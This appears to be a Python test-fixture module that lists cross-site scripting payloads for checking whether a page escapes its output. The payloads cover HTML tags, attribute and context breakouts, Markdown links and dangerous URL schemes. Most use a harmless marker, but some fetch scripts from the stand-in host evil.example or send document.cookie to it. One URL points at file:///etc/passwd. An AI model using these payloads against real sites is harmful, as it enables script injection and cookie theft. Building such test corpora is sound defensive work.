# ruff: noqa: E501  a text a piece reads better than lines of one length
"""Texts that run a script, or ask another server, wherever a page forgets to escape them.

Each names `window.__x` or `evil.example`, so that whatever fires is seen.
"""

from __future__ import annotations

_RUN = "window.__x=1"
_ASK = "https://evil.example"
_TAGS = (
    "<script>{run}</script>", "<script src={ask}/a.js></script>", "<ScRiPt >{run}</ScRiPt>",
    "<img src=x onerror={run}>", "<img src={ask}/a.png>", "<img/src='x'/onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg/onload={run}//",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><image href={ask}/a.svg>",
    "<svg><use href={ask}/a.svg#x>", "<svg><set onbegin={run} attributeName=x>",
    "<iframe src={ask}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>", "<object data={ask}/a></object>",
    "<embed src={ask}/a>", "<link rel=stylesheet href={ask}/a.css>",
    "<link rel=preload as=image href={ask}/a.png>", "<link rel=prefetch href={ask}/a>",
    "<base href={ask}/>", "<meta http-equiv=refresh content='0;url={ask}'>",
    "<style>@import url({ask}/a.css)</style>", "<style>*{{background:url({ask}/a.png)}}</style>",
    "<p style='background:url({ask}/a.png)'>x</p>", "<body onload={run}>", "<body background={ask}/a>",
    "<video src=x onerror={run}></video>", "<video poster={ask}/a.png></video>",
    "<video><source onerror={run}></video>", "<audio src={ask}/a.mp3 autoplay></audio>",
    "<audio src=x onerror={run}></audio>", "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>", "<textarea autofocus onfocus={run}></textarea>",
    "<select autofocus onfocus={run}></select>", "<button autofocus onfocus={run}>x</button>",
    "<input type=image src={ask}/a.png>", "<marquee onstart={run}>x</marquee>",
    "<math><mtext><img src=x onerror={run}></mtext></math>", "<picture><source srcset={ask}/a.png><img>",
    "<img srcset='{ask}/a.png 1x'>", "<table background={ask}/a.png><td>x</table>",
    "<form action={ask}><input autofocus onfocus=this.form.submit()></form>",
    "<form hx-get={ask} hx-trigger=load></form>", "<div hx-get={ask}/x hx-trigger=load></div>",
    "<div hx-on:load='{run}'></div>", "<div hx-sse:connect={ask}/s></div>",
    "<hx-partial hx-target=body><img src=x onerror={run}></hx-partial>",
    "<div hx-trigger='load[{run}]' hx-get=/></div>", "<template><img src=x onerror={run}></template>",
    "<xss onfocus={run} autofocus tabindex=1>x</xss>", "<div onpointerover={run}>x</div>",
    "<style>@keyframes a{{}}p{{animation:a 1s}}</style><p onanimationstart={run}>x</p>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>", "<plaintext><img src={ask}/b>",
    "<script>fetch('{ask}/'+document.cookie)</script>", "<script>new Image().src='{ask}/i'</script>",
    "<script>navigator.sendBeacon('{ask}/b')</script>", "<script>new WebSocket('wss://evil.example')</script>",
    "<script>import('{ask}/m.js')</script>", "<script>alert(1)</script>",
)  # fmt: skip
_OUT_OF = (
    "\"><script>{run}</script>", "'><script>{run}</script>", "</textarea><img src=x onerror={run}>",
    "</title><script>{run}</script>", "</style><script>{run}</script>",
    "</script><script>{run}</script>", "</pre><img src=x onerror={run}>", "</option></select><svg onload={run}>",
    "--><img src=x onerror={run}>", "]]><img src=x onerror={run}>", "\" autofocus onfocus={run} x=\"",
    "' autofocus onfocus={run} x='", "\" onmouseover={run} \"", "`-{run}-`", "${{{run}}}",
    "{{{{ {run} }}}}", "{{% raw %}}<img src=x onerror={run}>", "\"}}'><img src=x onerror={run}>",
)  # fmt: skip
_MARKDOWN = (
    "![a]({ask}/a.png)", "![a][r]\n\n[r]: {ask}/a.png", "[a](javascript:{run})",
    "[a](JaVaScRiPt:{run})", "[a](java\nscript:{run})", "[a](data:text/html,<script>{run}</script>)",
    "<javascript:{run}>", "[a](vbscript:{run})", "[x](<javascript:{run}>)",
    "![x](x\"onerror=\"{run})", "[a]({ask} \"t' onmouseover='{run}\")", "```<img src=x onerror={run}>\n```",
    "~~~\n</pre><svg onload={run}>\n~~~", "# <img src=x onerror={run}>", "> <svg onload={run}>",
    "| a |\n|---|\n| <img src={ask}/t.png> |", "1. <iframe src={ask}>", "<https://evil.example/?a=<img src=x onerror={run}>>",
    "&lt;img src=x onerror={run}&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "\u202e<script>{run}</script>", "<\u200bscript>{run}</script>", "\x0b<svg onload={run}>",
    "\ufeff<img src=x onerror={run}>", "\u2028<script>{run}</script>", "＜script＞{run}＜/script＞",
)  # fmt: skip
_URLS = (
    "javascript:{run}", "JAVASCRIPT:{run}", "java\tscript:{run}", "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>", "//evil.example/a", "https://evil.example/\"onfocus={run} autofocus x=\"",
    "https://evil.example/'><script>{run}</script>", "blob:https://evil.example/x", "file:///etc/passwd",
)  # fmt: skip


def _filled(templates: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(one.format(run=_RUN, ask=_ASK) for one in templates)


TEXTS = _filled(_TAGS + _OUT_OF + _MARKDOWN)
URLS = _filled(_URLS)
EVERY = TEXTS + URLS
